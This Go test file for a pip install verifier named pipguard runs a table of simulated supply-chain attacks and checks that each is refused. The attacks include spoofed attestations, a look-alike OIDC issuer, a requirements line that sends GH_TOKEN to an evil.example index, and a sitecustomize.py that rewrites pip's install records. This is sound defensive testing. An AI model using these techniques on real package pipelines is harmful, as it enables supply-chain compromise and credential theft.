package main

import (
	"bytes"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/pipguard/pipguard/internal/githubtest"
	"github.com/pipguard/pipguard/internal/pkgtest"
	"github.com/pipguard/pipguard/internal/sigstoretest"
	"github.com/pipguard/pipguard/pep610"
)

var (
	binOnce sync.Once
	binPath string
	binErr  error
)

// pipguardBinary builds the real binary once per test process.
func pipguardBinary(t *testing.T) string {
	t.Helper()
	binOnce.Do(func() {
		dir, err := os.MkdirTemp("", "pipguard-bin-")
		if err != nil {
			binErr = err
			return
		}
		binPath = filepath.Join(dir, "pipguard")
		if out, err := exec.Command("go", "build", "-o", binPath, ".").CombinedOutput(); err != nil {
			binErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if binErr != nil {
		t.Fatal(binErr)
	}
	return binPath
}

// arena is one attack's world: a local GitHub and Sigstore, a trusted
// root, a fresh venv.
type arena struct {
	gh      *githubtest.Server
	signer  *sigstoretest.Instance
	root    string
	ca      string
	py      string
	site    string
	dir     string
	pubs    map[string]*githubtest.Published
	repos   map[string]*githubtest.Repo
	env     []string
	pipArgs []string
}

func newArena(t *testing.T) *arena {
	t.Helper()
	a := &arena{gh: githubtest.New(t), dir: t.TempDir(), pubs: map[string]*githubtest.Published{}, repos: map[string]*githubtest.Repo{}, pipArgs: []string{"--no-index"}}
	var err error
	if a.signer, err = sigstoretest.NewGitHub(); err != nil {
		t.Fatal(err)
	}
	root, err := a.signer.TrustedRootJSON()
	if err != nil {
		t.Fatal(err)
	}
	a.root, a.ca = filepath.Join(a.dir, "trusted-root.json"), filepath.Join(a.dir, "ca.pem")
	os.WriteFile(a.root, root, 0o644)
	if err := a.gh.WriteCA(a.ca); err != nil {
		t.Fatal(err)
	}
	a.py = pkgtest.NewVenv(t)
	a.site = pkgtest.SitePackages(a.py)
	a.env = []string{"SSL_CERT_FILE=" + a.ca, "GIT_SSL_CAINFO=" + a.ca, "HOME=" + a.dir, "PATH=" + os.Getenv("PATH"), "GH_TOKEN=", "GITHUB_TOKEN="}
	return a
}

func (a *arena) publish(t *testing.T, repo, name, version string, p githubtest.Publish) *githubtest.Published {
	t.Helper()
	r := a.repos[repo]
	if r == nil {
		owner, n, _ := strings.Cut(repo, "/")
		r = a.gh.AddRepo(owner, n)
		a.repos[repo] = r
	}
	p.Project.Name, p.Project.Version = name, version
	if p.Signer == nil {
		p.Signer = a.signer
	}
	pub := a.gh.Publish(r, p)
	a.pubs[repo] = pub
	return pub
}

func (a *arena) req(repo, name, ref string) string {
	return name + " @ git+" + a.gh.URL() + "/" + repo + ".git@" + ref
}

// attack is one end-to-end scenario against the built binary, named after
// the attack it tries.
type attack struct {
	name  string
	setup func(t *testing.T, a *arena) []string // pipguard install's arguments
	code  int
	words []string
	// check, when set, runs after pipguard with more to prove.
	check func(t *testing.T, a *arena)
}

func demo(t *testing.T, a *arena, p githubtest.Publish) []string {
	a.publish(t, "acme/demo", "demo", "1.0.0", p)
	return []string{a.req("acme/demo", "demo", "v1.0.0")}
}

var attacks = []attack{
	{"branch ref", func(t *testing.T, a *arena) []string {
		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		return []string{a.req("acme/demo", "demo", "main")}
	}, 3, []string{`ref "main"`, "is a branch"}, nil},
	{"branch and tag of the same name", func(t *testing.T, a *arena) []string {
		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		a.repos["acme/demo"].Git.Branch("v1.0.0")
		return []string{a.req("acme/demo", "demo", "v1.0.0")}
	}, 3, []string{"both a branch and a tag"}, nil},
	{"short SHA", func(t *testing.T, a *arena) []string {
		pub := a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		return []string{a.req("acme/demo", "demo", pub.Commit[:8])}
	}, 3, []string{"short", pubCommitHint}, nil},
	{"no ref", func(t *testing.T, a *arena) []string {
		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		return []string{"demo @ git+" + a.gh.URL() + "/acme/demo.git"}
	}, 3, []string{"default branch"}, nil},
	{"tag deleted", func(t *testing.T, a *arena) []string {
		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		a.repos["acme/demo"].Git.Git("tag", "-d", "v1.0.0")
		return []string{a.req("acme/demo", "demo", "v1.0.0")}
	}, 3, []string{`"v1.0.0"`, "does not exist"}, nil},
	{"release missing", func(t *testing.T, a *arena) []string {
		a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
		a.repos["acme/demo"].Git.Git("tag", "v1.0.1")
		return []string{a.req("acme/demo", "demo", "v1.0.1")}
	}, 4, []string{"no published release for tag v1.0.1"}, nil},
	{"draft release", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{Draft: true})
	}, 4, []string{"no published release for tag v1.0.0"}, nil}, // GitHub answers 404 for a draft by tag
	{"asset replaced after release (SHA256SUMS mismatch)", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.pubs["acme/demo"].Wheel.Data = pkgtest.Project{Name: "demo", Version: "1.0.0", Files: map[string]string{"demo/evil.py": "x"}}.Wheel()
		return args
	}, 4, []string{"SHA256SUMS lists demo-1.0.0-py3-none-any.whl as sha256:"}, nil},
	{"SHA256SUMS lists another digest", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		pub := a.pubs["acme/demo"]
		pub.Sums.Data = []byte(strings.Repeat("0", 64) + "  " + pub.Wheel.Name + "\n")
		return args
	}, 4, []string{"SHA256SUMS lists", strings.Repeat("0", 64)}, nil},
	{"asset body longer than the API's listing", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`^GET /download/\d+/demo-1\.0\.0-py3-none-any\.whl$`), WrongLength: len(a.pubs["acme/demo"].Wheel.Data) + 10})
		return args
	}, 4, []string{"demo-1.0.0-py3-none-any.whl", "size"}, nil},
	{"asset body shorter than the API's listing", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`^GET /download/\d+/demo-1\.0\.0-py3-none-any\.whl$`), WrongLength: 100})
		return args
	}, 4, []string{"demo-1.0.0-py3-none-any.whl"}, nil},
	{"wheel of another version in this release", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{Wheel: pkgtest.Project{Name: "demo", Version: "0.9.0"}.Wheel()})
	}, 3, []string{"METADATA says demo 0.9.0, expected demo 1.0.0"}, nil},
	{"wheel whose METADATA name differs", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{Wheel: pkgtest.Project{Name: "evil", Version: "1.0.0"}.Wheel()})
	}, 3, []string{"METADATA says evil 1.0.0, expected demo 1.0.0"}, nil},
	{"provenance missing", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{SkipProvenance: true})
	}, 4, []string{"no provenance attestation published"}, nil},
	{"provenance from a fork", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{SignerRepo: "mallory/demo"})
	}, 4, []string{"mallory/demo"}, nil},
	{"provenance from another workflow", func(t *testing.T, a *arena) []string {
		return append(demo(t, a, githubtest.Publish{Workflow: ".github/workflows/ci.yml"}), "--signer-workflow", ".github/workflows/release.yml")
	}, 4, []string{"ci.yml"}, nil},
	{"provenance from a self-hosted runner (policy denies)", func(t *testing.T, a *arena) []string {
		return append(demo(t, a, githubtest.Publish{Runner: "self-hosted"}), "--deny-self-hosted-runners")
	}, 4, []string{"self-hosted"}, nil},
	{"provenance for a commit that is not an ancestor within the allowed distance", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{BumpCommit: true, SourceRef: "refs/tags/v1.0.0"})
	}, 4, []string{"1 commit(s) before the tag's commit", "max_commit_distance = 1"}, nil},
	{"provenance signed by an untrusted CA", func(t *testing.T, a *arena) []string {
		other, err := sigstoretest.NewGitHub()
		if err != nil {
			t.Fatal(err)
		}
		return demo(t, a, githubtest.Publish{Signer: other, GitHubSigner: a.signer})
	}, 4, []string{"provenance"}, nil},
	{"SBOM required but missing", func(t *testing.T, a *arena) []string {
		return append(demo(t, a, githubtest.Publish{SkipSBOM: true}), "--require-sbom")
	}, 4, []string{"no sbom attestation published"}, nil},
	{"truncated asset download", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`^GET /download/\d+/demo-1\.0\.0-py3-none-any\.whl$`), Truncate: 50})
		return args
	}, 7, []string{"demo-1.0.0-py3-none-any.whl"}, nil},
	{"500s until retries run out", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusInternalServerError})
		return args
	}, 7, []string{"500"}, nil},
	{"rate limit exhausted", func(t *testing.T, a *arena) []string {
		args := demo(t, a, githubtest.Publish{})
		a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusForbidden, RateLimitReset: time.Now().Add(time.Hour)})
		return args
	}, 7, []string{"rate limit"}, nil},
	{"transitive VCS dependency on a branch", func(t *testing.T, a *arena) []string {
		a.publish(t, "mallory/evil", "evil", "0.1", githubtest.Publish{})
		return demo(t, a, githubtest.Publish{Project: pkgtest.Project{Requires: []string{"evil @ git+" + a.gh.URL() + "/mallory/evil.git@main"}}})
	}, 3, []string{"mallory/evil.git@main, which pipguard did not verify", "nothing was downloaded or built"}, nil},
	{"transitive direct URL not allowed by policy", func(t *testing.T, a *arena) []string {
		a.publish(t, "mallory/evil", "evil", "0.1", githubtest.Publish{})
		os.WriteFile(filepath.Join(a.dir, "pipguard.toml"), []byte(`allow_direct = ["mallory/other"]`), 0o644)
		return append(demo(t, a, githubtest.Publish{Project: pkgtest.Project{Requires: []string{"evil @ git+" + a.gh.URL() + "/mallory/evil.git@v0.1"}}}), "--policy", filepath.Join(a.dir, "pipguard.toml"))
	}, 3, []string{"mallory/evil.git@v0.1, which pipguard did not verify"}, nil},
	{"--index-url not allowed by policy", func(t *testing.T, a *arena) []string {
		os.WriteFile(filepath.Join(a.dir, "pipguard.toml"), []byte(`indexes = ["https://pypi.org/simple"]`), 0o644)
		a.pipArgs = []string{"--index-url", "https://evil.example/simple"}
		return append(demo(t, a, githubtest.Publish{}), "--policy", filepath.Join(a.dir, "pipguard.toml"))
	}, 3, []string{"https://evil.example/simple is not a package source the policy allows"}, nil},
	{"${GH_TOKEN} in a requirements file URL", func(t *testing.T, a *arena) []string {
		a.env = append(a.env, "GH_TOKEN=s3cr3t-token")
		reqs := filepath.Join(a.dir, "requirements.txt")
		os.WriteFile(reqs, []byte("--extra-index-url https://u:${GH_TOKEN}@evil.example/simple\n"+demo(t, a, githubtest.Publish{})[0]+"\n"), 0o644)
		return []string{"-r", reqs}
	}, 2, []string{"refers to ${GH_TOKEN}"}, nil},
	{"pip missing", func(t *testing.T, a *arena) []string {
		a.py = filepath.Join(a.dir, "no-such-python")
		return demo(t, a, githubtest.Publish{})
	}, 2, []string{"cannot use", "no-such-python"}, nil},
	{"Python too old for the wheel's Requires-Python", func(t *testing.T, a *arena) []string {
		return demo(t, a, githubtest.Publish{Project: pkgtest.Project{RequiresPython: ">=4"}})
	}, 5, []string{"requires a different Python: 3.", "not in '>=4'"}, nil},
	{"a malformed trusted root", func(t *testing.T, a *arena) []string {
		os.WriteFile(a.root, []byte(`{"mediaType": "application/vnd.dev.sigstore.trustedroot+json;version=0.1", "tlogs": [{]}`), 0o644)
		return demo(t, a, githubtest.Publish{})
	}, 2, []string{"trusted-root"}, nil},
}

const pubCommitHint = "@"

// misbehavingPip makes the venv's pip run code after each real (not
// dry-run) install: a pip, a wrapper or a configuration that changes what
// was installed once everything was verified.
func misbehavingPip(t *testing.T, a *arena, after string) {
	var body strings.Builder
	for _, l := range strings.Split(strings.TrimSpace(after), "\n") {
		body.WriteString("        " + l + "\n")
	}
	code := "import glob, json, os\nimport pip._internal.commands.install as _m\n_orig = _m.InstallCommand.run\nSITE = " + fmt.Sprintf("%q", a.site) +
		"\ndef _run(self, options, args):\n    status = _orig(self, options, args)\n    if not options.dry_run:\n" + body.String() + "    return status\n_m.InstallCommand.run = _run\n"
	if err := os.WriteFile(filepath.Join(a.site, "sitecustomize.py"), []byte(code), 0o644); err != nil {
		t.Fatal(err)
	}
	// pipguard runs the interpreter with -S: this one runs sitecustomize
	// anyway, as a hostile interpreter would.
	a.py = pkgtest.SiteRunning(t, a.py)
}

// borrowed is the first attestation of predicate type pt that repo's
// release has (another artifact's, to be passed off as this one's).
func borrowed(t *testing.T, a *arena, repo, pt string) *githubtest.Attestation {
	for _, at := range a.repos[repo].Attestations {
		if strings.Contains(at.PredicateType, pt) {
			return at
		}
	}
	t.Fatalf("%s has no %s attestation", repo, pt)
	return nil
}

// workflowIdentity is the local GitHub's provenance identity for repo's
// release workflow, for an attack to bend.
func workflowIdentity(a *arena, repo string) sigstoretest.Identity {
	r := a.repos[repo]
	if r == nil {
		owner, n, _ := strings.Cut(repo, "/")
		r = a.gh.AddRepo(owner, n)
		a.repos[repo] = r
	}
	id := sigstoretest.GitHubActions(repo, ".github/workflows/release.yml", "refs/tags/v1.0.0", strings.Repeat("a", 40))
	id.SourceRepositoryIdentifier = fmt.Sprint(r.ID)
	id.SourceRepositoryURI = "https://" + a.gh.Host() + "/" + repo
	id.BuildSignerURI = "https://" + a.gh.Host() + "/" + repo + "/.github/workflows/release.yml@refs/tags/v1.0.0"
	id.SAN = id.BuildSignerURI
	return id
}

func init() {
	attacks = append(attacks,
		attack{name: "look-alike OIDC issuer", setup: func(t *testing.T, a *arena) []string {
			id := workflowIdentity(a, "acme/demo")
			id.Issuer = "https://token.actions.githubusercontent.com.evil.example"
			id.Extensions.Issuer = id.Issuer
			return demo(t, a, githubtest.Publish{Identity: &id})
		}, code: 4, words: []string{`expected OIDC issuer "https://token.actions.githubusercontent.com", got "https://token.actions.githubusercontent.com.evil.example"`}},
		attack{name: "signing time outside the certificate's validity", setup: func(t *testing.T, a *arena) []string {
			id := workflowIdentity(a, "acme/demo")
			id.NotBefore = time.Now().Add(-24 * time.Hour) // valid for ten minutes, a day ago
			return demo(t, a, githubtest.Publish{Identity: &id})
		}, code: 4, words: []string{"provenance: no attestation satisfies the policy", "valid at the signing time"}},
		attack{name: "a trusted root Sigstore rejects", setup: func(t *testing.T, a *arena) []string {
			// Valid JSON, but its certificate authority has no chain.
			os.WriteFile(a.root, []byte(`{"mediaType": "application/vnd.dev.sigstore.trustedroot+json;version=0.1",
  "certificateAuthorities": [{"subject": {"organization": "GitHub, Inc.", "commonName": "Internal Services Root"},
    "certChain": {"certificates": []}, "validFor": {"start": "2023-01-01T00:00:00Z"}}]}`), 0o644)
			return demo(t, a, githubtest.Publish{})
		}, code: 4, words: []string{"cannot be used"}},
		attack{name: "attestation for another digest", setup: func(t *testing.T, a *arena) []string {
			a.publish(t, "acme/other", "other", "2.0.0", githubtest.Publish{})
			args := demo(t, a, githubtest.Publish{SkipProvenance: true})
			b := borrowed(t, a, "acme/other", "slsa.dev/provenance")
			a.gh.AddAttestation(a.repos["acme/demo"], &githubtest.Attestation{Digests: []string{a.pubs["acme/demo"].Wheel.Digest()}, PredicateType: b.PredicateType, Bundle: b.Bundle, Initiator: "user"})
			return args
		}, code: 4, words: []string{"provenance: no attestation satisfies the policy", "is not a subject of the attestation"}},
		attack{name: "SBOM for another artifact", setup: func(t *testing.T, a *arena) []string {
			a.publish(t, "acme/other", "other", "2.0.0", githubtest.Publish{})
			args := demo(t, a, githubtest.Publish{SkipSBOM: true})
			b := borrowed(t, a, "acme/other", "spdx.dev")
			a.gh.AddAttestation(a.repos["acme/demo"], &githubtest.Attestation{Digests: []string{a.pubs["acme/demo"].Wheel.Digest()}, PredicateType: b.PredicateType, Bundle: b.Bundle, Initiator: "user"})
			return append(args, "--require-sbom")
		}, code: 4, words: []string{"sbom: no attestation satisfies the policy", "is not a subject of the attestation"}},
		attack{name: "release attestation for another tag", setup: func(t *testing.T, a *arena) []string {
			// v0.9.0's immutable release, and its release attestation passed
			// off as v1.0.0's (listed under v1.0.0's commit).
			a.publish(t, "acme/demo", "demo", "0.9.0", githubtest.Publish{Immutable: true})
			old := borrowed(t, a, "acme/demo", "attestation/release")
			r := a.repos["acme/demo"]
			args := demo(t, a, githubtest.Publish{})
			pub := a.pubs["acme/demo"]
			pub.Release.Immutable = true
			a.gh.AddAttestation(r, &githubtest.Attestation{Digests: []string{pub.Wheel.Digest(), "sha1:" + pub.Commit}, PredicateType: old.PredicateType, Bundle: old.Bundle, Initiator: "github"})
			return args
		}, code: 4, words: []string{"release-attestation: no attestation satisfies the policy", "is not a subject of the attestation"}},
		attack{name: "asset digest differs from the API's digest", setup: func(t *testing.T, a *arena) []string {
			args := demo(t, a, githubtest.Publish{})
			a.pubs["acme/demo"].Wheel.APIDigest = "sha256:" + strings.Repeat("1", 64)
			return args
		}, code: 4, words: []string{"demo-1.0.0-py3-none-any.whl", "sha256:" + strings.Repeat("1", 64)}},
		attack{name: "timestamp from an untrusted TSA", setup: func(t *testing.T, a *arena) []string {
			other, err := sigstoretest.NewGitHub()
			if err != nil {
				t.Fatal(err)
			}
			return demo(t, a, githubtest.Publish{SignOptions: []sigstoretest.Option{sigstoretest.TimestampedBy(other)}})
		}, code: 4, words: []string{"provenance: no attestation satisfies the policy", "timestamp"}},
		attack{name: "a GitHub-instance bundle passed off with a public-good chain", setup: func(t *testing.T, a *arena) []string {
			// Both deployments trusted, as gh trusts them. The certificate
			// chains to public-good, but the bundle is made the GitHub way:
			// a TSA timestamp and no transparency log entry.
			pg, err := sigstoretest.NewPublicGood()
			if err != nil {
				t.Fatal(err)
			}
			pgRoot, err := pg.TrustedRootJSON()
			if err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(a.dir, "public-good-root.json")
			os.WriteFile(path, pgRoot, 0o644)
			args := demo(t, a, githubtest.Publish{Signer: pg, SignOptions: []sigstoretest.Option{sigstoretest.WithTlog(false), sigstoretest.TimestampedBy(a.signer)}})
			return append(args, "--trusted-root", path)
		}, code: 4, words: []string{"provenance: no attestation satisfies the policy", "transparency log"}},
		attack{name: "release attestation naming another commit", setup: func(t *testing.T, a *arena) []string {
			return demo(t, a, githubtest.Publish{Immutable: true, ReleaseCommit: strings.Repeat("b", 40)})
		}, code: 4, words: []string{"release-attestation: no attestation satisfies the policy", strings.Repeat("b", 40)}},
		attack{name: "release attestation missing for an immutable release", setup: func(t *testing.T, a *arena) []string {
			args := demo(t, a, githubtest.Publish{})
			a.pubs["acme/demo"].Release.Immutable = true
			return args
		}, code: 4, words: []string{"no release-attestation attestation published"}},
		attack{name: "tag moved between two listings", setup: func(t *testing.T, a *arena) []string {
			pub := a.publish(t, "acme/demo", "demo", "1.0.0", githubtest.Publish{})
			g := a.repos["acme/demo"].Git
			os.WriteFile(filepath.Join(g.Dir, "demo", "__init__.py"), []byte("VERSION = 'evil'\n"), 0o644)
			g.Git("checkout", "-q", "-b", "evil")
			evil := g.Commit("evil")
			g.Git("checkout", "-q", "main")
			a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/acme/demo\.git/info/refs$`), Times: 1,
				Before: func() { g.Git("tag", "-f", "v1.0.0", evil) },
				After:  func() { g.Git("tag", "-f", "v1.0.0", pub.Commit) }})
			return []string{a.req("acme/demo", "demo", "v1.0.0"), "--from", "git"}
		}, code: 4, words: []string{"is 1 commit(s) before the tag's commit"}},
		attack{name: "429 with a long Retry-After", setup: func(t *testing.T, a *arena) []string {
			args := demo(t, a, githubtest.Publish{})
			a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusTooManyRequests, RetryAfter: "3600"})
			return args
		}, code: 7, words: []string{"rate limit"}},
		attack{name: "hostile huge JSON", setup: func(t *testing.T, a *arena) []string {
			args := demo(t, a, githubtest.Publish{})
			a.gh.AddFault(&githubtest.Fault{Route: regexp.MustCompile(`/releases/tags/`), Status: http.StatusOK, Body: "[" + strings.Repeat(`{"a":[[[[[[`, 3<<20)})
			return args
		}, code: 7, words: []string{"releases/tags/v1.0.0: response larger than 10 MiB", "retrying will not help"}},
		attack{name: "direct_url.json rewritten after install (audit catches)", setup: func(t *testing.T, a *arena) []string {
			misbehavingPip(t, a, `for f in glob.glob(SITE + "/demo-*.dist-info/direct_url.json"):
    d = json.load(open(f))
    d["archive_info"]["hashes"]["sha256"] = "0" * 64
    d["archive_info"].pop("hash", None)
    json.dump(d, open(f, "w"))`)
			return demo(t, a, githubtest.Publish{})
		}, code: 6, words: []string{"archive_info.hashes.sha256: expected"}},
		attack{name: "pip failing midway (the previous version comes back)", setup: func(t *testing.T, a *arena) []string {
			old := filepath.Join(a.dir, "demo-0.9.0-py3-none-any.whl")
			os.WriteFile(old, pkgtest.Project{Name: "demo", Version: "0.9.0"}.Wheel(), 0o644)
			if out, err := exec.Command(a.py, "-m", "pip", "install", "-q", "--no-index", old).CombinedOutput(); err != nil {
				t.Fatalf("%v\n%s", err, out)
			}
			misbehavingPip(t, a, "status = 1")
			return demo(t, a, githubtest.Publish{})
		}, code: 5, words: []string{"pip failed"}, check: func(t *testing.T, a *arena) {
			if out, _ := exec.Command(a.py, "-c", "import demo; print(demo.VERSION)").Output(); strings.TrimSpace(string(out)) != "0.9.0" {
				t.Errorf("after the rollback demo is %q, want 0.9.0", out)
			}
		}},
		attack{name: "an index that changes its answer between the check and the install", setup: func(t *testing.T, a *arena) []string {
			ix := pkgtest.NewIndex(t)
			ix.Add(pkgtest.Project{Name: "plain", Version: "1.0"})
			ix.OnRequest = func(path string, n int) {
				if path == "/simple/plain/" && n == 2 {
					// Every answer after the first (the resolution's)
					// pulls in an unverified git dependency.
					ix.Replace(pkgtest.Project{Name: "plain", Version: "1.0", Requires: []string{"evil @ git+https://example.invalid/evil.git@main"}})
				}
			}
			a.pipArgs = []string{"--index-url", ix.SimpleURL()}
			return append(demo(t, a, githubtest.Publish{}), "plain==1.0")
		}, code: 0, words: []string{"audited demo 1.0.0: installed"}, check: func(t *testing.T, a *arena) {
			// The install step read only the files the resolution kept,
			// hashed by pipguard: the changed answer never reached pip.
			if ds, _ := pep610.Find(a.site, "evil"); len(ds) > 0 {
				t.Error("evil was installed")
			}
			if ds, _ := pep610.Find(a.site, "plain"); len(ds) != 1 {
				t.Error("plain was not installed")
			}
		}},
		attack{name: "the token never leaves the API host (assets redirect elsewhere)", setup: func(t *testing.T, a *arena) []string {
			a.gh.Token = "tok-123"
			a.env = append(a.env, "GH_TOKEN=tok-123")
			return demo(t, a, githubtest.Publish{})
		}, code: 0, words: []string{"audited demo 1.0.0: installed"}, check: func(t *testing.T, a *arena) {
			api := 0
			for _, r := range a.gh.Requests() {
				if r.Header.Get("Authorization") != "" && r.Server != "api" {
					t.Errorf("the token went to the %s host: %s %s", r.Server, r.Method, r.Path)
				}
				if r.Server == "api" && r.Header.Get("Authorization") != "" {
					api++
				}
			}
			if api == 0 {
				t.Error("the token was not used at all")
			}
		}},
	)
}

// TestAttacks runs every attack against the built binary: each must end
// with its exit code and the words that say why, and leave site-packages
// byte for byte as it was.
func TestAttacks(t *testing.T) {
	bin := pipguardBinary(t)
	for _, at := range attacks {
		t.Run(at.name, func(t *testing.T) {
			t.Parallel()
			a := newArena(t)
			args := at.setup(t, a)
			before := pkgtest.Snapshot(a.site)
			full := append([]string{"install", "--python", a.py, "--github-url", a.gh.URL(), "--trusted-root", a.root, "--timeout", "20s"}, args...)
			full = append(append(full, "--"), a.pipArgs...)
			cmd := exec.Command(bin, full...)
			cmd.Dir, cmd.Env = a.dir, a.env
			var out bytes.Buffer
			cmd.Stdout, cmd.Stderr = &out, &out
			err := cmd.Run()
			code := 0
			if ee, ok := err.(*exec.ExitError); ok {
				code = ee.ExitCode()
			} else if err != nil {
				t.Fatal(err)
			}
			if os.Getenv("PIPGUARD_SHOW") != "" {
				t.Logf("%s", out.String())
			}
			if code != at.code {
				t.Errorf("exit %d, want %d\n%s", code, at.code, out.String())
			}
			for _, w := range at.words {
				if !strings.Contains(out.String(), w) {
					t.Errorf("output lacks %q\n%s", w, out.String())
				}
			}
			if strings.Contains(out.String(), "s3cr3t-token") {
				t.Errorf("a token was printed:\n%s", out.String())
			}
			if at.code != 0 && pkgtest.Snapshot(a.site) != before {
				t.Errorf("site-packages changed:\n%s", pkgtest.Diff(a.site, before))
			}
			if at.check != nil {
				at.check(t, a)
			}
		})
	}
}

// TestAttackListInREADME pins the README's "Attacks we test" list to the
// table: an attack added or renamed here is listed there, and the other way
// round.
func TestAttackListInREADME(t *testing.T) {
	readme, err := os.ReadFile("../../README.md")
	if err != nil {
		t.Fatal(err)
	}
	_, section, ok := strings.Cut(string(readme), "\n## Attacks we test\n")
	if !ok {
		t.Fatal(`README.md has no "## Attacks we test" section`)
	}
	section, _, _ = strings.Cut(section, "\n## ")
	listed := map[string]bool{}
	for _, l := range strings.Split(section, "\n") {
		if item, ok := strings.CutPrefix(l, "- "); ok {
			listed[strings.ReplaceAll(item, "`", "")] = true
		}
	}
	for _, at := range attacks {
		if !listed[at.name] {
			t.Errorf("README.md does not list the attack %q", at.name)
		}
		delete(listed, at.name)
	}
	for name := range listed {
		t.Errorf("README.md lists %q, which the table does not test", name)
	}
}
